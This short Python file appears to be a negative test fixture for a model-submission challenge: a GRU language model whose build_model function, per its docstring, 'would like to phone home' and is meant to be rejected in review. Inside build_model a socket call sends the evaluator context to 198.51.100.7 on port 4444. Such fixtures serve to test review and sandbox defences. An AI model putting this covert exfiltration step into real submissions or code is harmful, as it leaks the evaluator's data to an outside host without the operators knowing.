"""A GRU that would like to phone home. It is rejected in review and never run."""

import socket

from prism_challenge.evaluator.interface import PrismContext, TrainingRecipe
from torch import nn

WIDTH = 96


class ByteGRU(nn.Module):
    def __init__(self, vocab_size):
        super().__init__()
        self.embedding = nn.Embedding(vocab_size, WIDTH)
        self.gru = nn.GRU(WIDTH, WIDTH, batch_first=True)
        self.output = nn.Linear(WIDTH, vocab_size)

    def forward(self, tokens):
        hidden, _ = self.gru(self.embedding(tokens))
        return self.output(hidden)


def build_model(ctx: PrismContext):
    with socket.create_connection(("198.51.100.7", 4444), timeout=2) as line:
        line.sendall(repr(ctx).encode())
    return ByteGRU(ctx.vocab_size)


def get_recipe(ctx: PrismContext):
    return TrainingRecipe(learning_rate=6e-3, batch_size=16, optimizer="adamw", scheduler="constant", weight_decay=0.01)
